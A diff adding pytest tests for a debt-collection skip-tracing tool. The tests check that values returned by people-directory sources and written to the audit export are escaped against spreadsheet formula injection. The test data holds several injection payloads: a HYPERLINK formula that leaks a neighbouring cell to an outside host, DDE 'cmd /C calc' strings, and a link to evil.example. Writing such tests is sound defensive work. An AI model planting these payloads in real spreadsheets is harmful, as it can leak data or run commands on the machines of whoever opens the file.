@@ -1,0 +1,195 @@
+"""Output safe to open: what a source said lands in the enriched CSV (and the audit export)
+neutralised against spreadsheet formula injection; what the user's own file said does not move.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import parse_qs, urlsplit
+
+import pytest
+from typer.testing import CliRunner
+
+from skiptrace.audit import AuditEvent, AuditLog
+from skiptrace.cli import app
+from skiptrace.connectors._runner import ConnectorResult
+from skiptrace.demo.enrich import MANIFEST as DEMO_MANIFEST
+from skiptrace.records import Address, Provenance, SourceRecord, Status
+from skiptrace.research.findings import output_row
+from skiptrace.testing.replay import ReplayServer, Reply
+
+LEAK = '=HYPERLINK("http://x/?leak="&A2,"click")'
+"""A cell that, opened in a spreadsheet, sends the row's neighbour to a stranger."""
+
+HOSTILE = {
+    # last name -> what the directory says about that person
+    "Quartermain": {"street": "+1 Harbour Rd", "employer": LEAK, "office": "-400 Main St"},
+    "Minus": {"street": "-2 Harbour Rd", "employer": "@SUM(1+1)*cmd|' /C calc'!A0",
+              "office": "@400 Main St"},
+    "At": {"street": "@3 Harbour Rd", "employer": "+cmd|' /C calc'!A0", "office": "=1+1"},
+}  # fmt: skip
+MANIFEST = (
+    DEMO_MANIFEST.replace('id = "demo_directory"', 'id = "people_directory"')
+    .replace('"employer"]', '"employer", "employer_address"]')
+    .rstrip()
+    + '\n[fields.employer_address]\nlines = "[office]"\ncity = "city"\nregion = "state"\n'
+)
+POLICY = """
+[hosts]
+allow_private = ["{endpoint}"]
+[rate.hosts]
+"127.0.0.1" = "2000/s"
+[[override]]
+key = "rate.hosts"
+reason = "tests replay a directory on loopback"
+[[override]]
+key = "hosts.allow_private"
+reason = "tests replay a directory on loopback"
+"""
+INPUT_FORMULAS = ["=1+2", '=HYPERLINK("http://evil.example/","x")', "@SUM(A1:A9)"]
+"""The user's own cells: written back exactly as they were read."""
+
+
+def _directory(method: str, target: str) -> Reply | None:
+    url = urlsplit(target)
+    if url.path != "/people":
+        return None
+    query = parse_qs(url.query)
+    last, first = query.get("last", [""])[0], query.get("first", [""])[0]
+    said = HOSTILE.get(last)
+    people = []
+    if said is not None:
+        people.append({"name": f"{first} {last}", "city": "Springfield", "state": "IL",
+                       "zip": "62701", **said})  # fmt: skip
+    return Reply(200, json.dumps({"people": people}).encode(), {"Content-Type": "application/json"})
+
+
+@pytest.fixture
+def folders(tmp_path: Path) -> Iterator[tuple[Path, Path]]:
+    with ReplayServer(_directory) as server:
+        connectors = tmp_path / "connectors"
+        connectors.mkdir()
+        manifest = MANIFEST.format(base=server.base_url)
+        (connectors / "people_directory.toml").write_text(manifest, encoding="utf-8")
+        policy = tmp_path / "fast.toml"
+        policy.write_text(POLICY.replace("{endpoint}", server.endpoint), encoding="utf-8")
+        yield connectors, policy
+
+
+def _enrich(connectors: Path, policy: Path, source: Path, target: Path) -> list[dict[str, str]]:
+    result = CliRunner().invoke(app, [
+        "--connectors-dir", str(connectors), "--policy", str(policy), "enrich", str(source),
+        "-o", str(target), "--source", "people_directory", "--purpose",
+        "collection of a debt owed", "--no-progress",
+    ])  # fmt: skip
+    assert result.exit_code == 0, result.output
+    with target.open(encoding="utf-8", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+def test_formulas_from_a_source_are_neutralised_in_the_enriched_csv(
+    folders: tuple[Path, Path], tmp_path: Path
+) -> None:
+    connectors, policy = folders
+    source = tmp_path / "debtors.csv"
+    with source.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["Account", "First Name", "Last Name", "City", "State", "Zip", "Memo"])
+        for n, (last, memo) in enumerate(zip(HOSTILE, INPUT_FORMULAS, strict=True)):
+            writer.writerow([f"=A{n}", "Pat", last, "Springfield", "IL", "62701", memo])
+    rows = _enrich(connectors, policy, source, tmp_path / "out.csv")
+
+    assert [r["status"] for r in rows] == ["hit"] * 3
+    for row, (last, said), memo in zip(rows, HOSTILE.items(), INPUT_FORMULAS, strict=True):
+        assert row["found_employer"] == "'" + said["employer"]
+        assert row["found_mailing_address"] == f"'{said['street']}, Springfield, IL 62701"
+        assert row["found_employer_address"] == f"'{said['office']}, Springfield, IL"
+        assert row["found_mailing_address_source"].startswith("people_directory http://127.")
+        # the user's own columns, formulas included, are written back untouched
+        assert (row["Last Name"], row["Memo"]) == (last, memo)
+        assert row["Account"].startswith("=A")
+        # no cell that came from the source can start a formula
+        for column, cell in row.items():
+            if column.startswith("found_") or column in ("matched_on", "status_detail"):
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    # our own numbers and words are left as they are
+    assert float(rows[0]["match_score"]) > 0.9 and rows[0]["match_band"] == "high"
+    assert rows[0]["sources_checked"] == "people_directory:hit"
+
+
+def _record(
+    connector: str,
+    url: str,
+    *,
+    name: str = "",
+    mail: Address | None = None,
+    employer: str = "",
+    office: Address | None = None,
+) -> SourceRecord:
+    provenance = Provenance(connector, "1", url, "2024-05-01T12:00:00+00:00")
+    return SourceRecord(provenance, name, mail or Address(), employer, office or Address())
+
+
+DEBTOR = {"first_name": "Jane", "last_name": "Quartermain", "full_name": "Jane Quartermain",
+          "city": "Springfield", "state": "IL", "zip": "62701"}  # fmt: skip
+
+
+def test_every_column_that_carries_a_source_value_is_neutralised() -> None:
+    person = _record("=directory", "http://127.0.0.1/p", name="Jane Quartermain",
+                     mail=Address(("\t1 Harbour Rd",), "Springfield", "IL", "62701"),
+                     employer="\r=1+1", office=Address(("-4 Main St",)))  # fmt: skip
+    broken = ConnectorResult("@broken", Status.ERROR, detail='=HYPERLINK("http://x/")')
+    row = output_row(DEBTOR, [ConnectorResult("=directory", Status.HIT, (person,)), broken])
+    assert row["found_mailing_address"] == "'\t1 Harbour Rd, Springfield, IL 62701"
+    assert row["found_mailing_address_source"] == "'=directory http://127.0.0.1/p"
+    assert row["found_employer"] == "'\r=1+1"
+    assert row["found_employer_address"] == "'-4 Main St"
+    assert row["found_employer_source"] == "'=directory http://127.0.0.1/p"
+    assert row["status_detail"].startswith("'@broken error: =HYPERLINK")
+    assert row["status"] == "hit" and float(row["found_employer_score"]) > 0.9
+
+
+def test_a_company_record_for_the_known_employer_is_neutralised_too() -> None:
+    company = _record("=registry", "http://127.0.0.1/c", employer="@Acme",
+                      office=Address(("+1 Main St",), "Springfield"))  # fmt: skip
+    debtor = {**DEBTOR, "employer": "@Acme"}
+    row = output_row(debtor, [ConnectorResult("=registry", Status.HIT, (company,))])
+    assert row["found_employer"] == "'@Acme"
+    assert row["found_employer_address"] == "'+1 Main St, Springfield"
+    assert row["found_employer_source"] == "'=registry http://127.0.0.1/c"
+    assert row["found_employer_score"] == "1.0000"
+
+
+def test_ordinary_values_are_left_exactly_as_they_were() -> None:
+    person = _record("directory", "http://127.0.0.1/p", name="Jane Quartermain",
+                     mail=Address(("12 Harbour Rd",), "Springfield", "IL", "62701"),
+                     employer="Example Plumbing Co. - Springfield")  # fmt: skip
+    row = output_row(DEBTOR, [ConnectorResult("directory", Status.HIT, (person,))])
+    assert row["found_employer"] == "Example Plumbing Co. - Springfield"
+    assert row["found_mailing_address"] == "12 Harbour Rd, Springfield, IL 62701"
+    assert row["found_mailing_address_source"] == "directory http://127.0.0.1/p"
+    assert not row["matched_on"].startswith("'") and row["matched_on"]
+
+
+def test_audit_export_neutralises_every_text_cell_and_the_log_still_verifies() -> None:
+    log = AuditLog.open_default()
+    log.append(AuditEvent(event="error", method="GET", url="=HYPERLINK(\"http://x/\")",
+                          connector="@conn", purpose="-purpose", debtor_ref="+ref",
+                          detail='=cmd|" /C calc"!A0'))  # fmt: skip
+    log.append(AuditEvent(event="request", method="GET", url="https://x.example/", status=200))
+    log.close()
+    runner = CliRunner()
+    exported = runner.invoke(app, ["audit", "export"])
+    assert exported.exit_code == 0, exported.output
+    hostile, plain = csv.DictReader(io.StringIO(exported.stdout))
+    for column in ("url", "connector", "purpose", "debtor_ref", "detail"):
+        assert hostile[column].startswith("'"), (column, hostile[column])
+    assert hostile["url"] == '\'=HYPERLINK("http://x/")'
+    assert (plain["url"], plain["status"], plain["seq"]) == ("https://x.example/", "200", "2")
+    assert len(plain["hash"]) == 64 and plain["prev_hash"] == hostile["hash"]
+    verified = runner.invoke(app, ["audit", "verify"])
+    assert verified.exit_code == 0 and verified.output.startswith("ok: 2 rows")
